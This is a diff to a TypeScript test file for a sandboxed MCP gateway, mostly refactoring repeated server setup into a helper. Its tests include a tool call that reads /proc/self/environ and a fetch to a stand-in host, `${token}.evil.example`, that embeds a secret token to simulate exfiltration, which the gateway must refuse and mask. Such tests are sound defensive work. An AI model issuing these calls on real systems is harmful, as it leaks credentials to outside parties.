@@ -4,6 +4,7 @@ import { randomBytes } from "node:crypto";
 import { writeFileSync } from "node:fs";
 import { join } from "node:path";
 import { describe, expect, it, vi } from "vitest";
+import type { Warden } from "../../../src/index.js";
 import { BubblewrapRunner } from "../../../src/sandbox/index.js";
 import { openWarden, tempDir } from "../../helpers.js";
 import { cmdlinesHolding, localServer } from "../../sandbox/fixtures.js";
@@ -11,6 +12,24 @@ import { connectInMemory, gatewayFor, records, textOf } from "./helpers.js";
 
 const root = new URL("../../../", import.meta.url).pathname;
 const FETCHER = `${root}test/adapters/mcp/fixtures/fetch-server.mjs`;
+
+/** A client of a gateway fronting the fetcher fixture in the sandbox, with `env` configured for it. */
+async function sandboxedFetcher(warden: Warden, env: Record<string, string>) {
+  const gateway = await gatewayFor(warden, {
+    servers: [
+      {
+        name: "fetcher",
+        command: [process.execPath, FETCHER],
+        env,
+        cwd: null,
+        url: null,
+        headers: {},
+        sandbox: { readOnly: [root.replace(/\/$/, "")] },
+      },
+    ],
+  });
+  return connectInMemory(gateway);
+}
 
 describe.skipIf(!BubblewrapRunner.available())("a sandboxed upstream MCP server", () => {
   it("reaches only allowed hosts, sees no host files, and is killed with its session on a violation", async () => {
@@ -59,20 +78,7 @@ describe.skipIf(!BubblewrapRunner.available())("a sandboxed upstream MCP server"
   it("gets its configured env without the values on any command line", async () => {
     const token = `tok-${randomBytes(16).toString("hex")}`;
     const { warden } = await openWarden({ default: "allow" });
-    const gateway = await gatewayFor(warden, {
-      servers: [
-        {
-          name: "fetcher",
-          command: [process.execPath, FETCHER],
-          env: { UPSTREAM_TOKEN: token },
-          cwd: null,
-          url: null,
-          headers: {},
-          sandbox: { readOnly: [root.replace(/\/$/, "")] },
-        },
-      ],
-    });
-    const client = await connectInMemory(gateway);
+    const client = await sandboxedFetcher(warden, { UPSTREAM_TOKEN: token });
     const environ = await client.callTool({ name: "read_file", arguments: { path: "/proc/self/environ" } });
     expect(textOf(environ).split("\0")).toContain(`UPSTREAM_TOKEN=${token}`);
     expect(cmdlinesHolding(token)).toEqual([]);
@@ -81,20 +87,7 @@ describe.skipIf(!BubblewrapRunner.available())("a sandboxed upstream MCP server"
   it("masks its own configured env values in a refused host name (the record, the session's end), in any letter case", async () => {
     const token = `Tok${randomBytes(12).toString("hex")}`;
     const { warden } = await openWarden({ default: "allow", egress: { allow: ["localhost:1"] } });
-    const gateway = await gatewayFor(warden, {
-      servers: [
-        {
-          name: "fetcher",
-          command: [process.execPath, FETCHER],
-          env: { UPSTREAM_TOKEN: token },
-          cwd: null,
-          url: null,
-          headers: {},
-          sandbox: { readOnly: [root.replace(/\/$/, "")] },
-        },
-      ],
-    });
-    const client = await connectInMemory(gateway);
+    const client = await sandboxedFetcher(warden, { UPSTREAM_TOKEN: token });
     await client
       .callTool({ name: "fetch_url", arguments: { url: `http://${token}.evil.example/` } })
       .catch(() => undefined);
